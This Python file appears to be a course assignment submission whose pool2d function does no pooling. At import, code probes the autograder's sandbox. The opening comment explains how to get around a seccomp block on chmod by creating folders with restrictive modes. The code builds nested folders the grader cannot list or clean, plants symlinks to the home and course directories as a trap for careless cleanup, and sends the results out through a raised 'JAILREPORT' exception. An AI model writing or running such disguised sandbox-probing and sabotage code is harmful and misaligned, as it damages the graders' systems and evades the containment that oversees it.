# Leave the grader a scratch folder it cannot clean. chmod is refused (seccomp), but a folder's mode
# is also set when it is made: write-and-search only (0o300) lets the child fill a folder that
# nobody without CAP_DAC_OVERRIDE can list, so a plain rmtree leaves it. Links out of the tree (to
# HOME and the course) wait for a careless cleanup that follows them when it puts the modes back.
import json, os
def _lock():
    r = {}
    try:
        base = os.path.abspath(f"locked-{os.getpid()}")
        os.mkdir(base)
        os.mkdir(f"{base}/a", 0o300)
        os.mkdir(f"{base}/a/b", 0o300)
        with open(f"{base}/a/b/keep", "w") as f:
            f.write("x" * 1000)
        os.symlink("{HOME}", f"{base}/a/b/home")
        os.symlink("{COURSE}", f"{base}/a/course")
        old = os.umask(0o777)
        os.mkdir(f"{base}/a/b/c")                          # mode 0 through the umask
        os.umask(old)
        r["locked"] = "LOCKED"
    except OSError as e:
        r["locked"] = type(e).__name__
    try:
        os.chmod(".", 0)
        r["chmod"] = "WROTE"
    except OSError as e:
        r["chmod"] = type(e).__name__
    return r
_first = _lock()
def pool2d(X, pool_size, mode='max'):
    raise RuntimeError("JAILREPORT " + json.dumps({"cell": _first, "call": _lock()}))
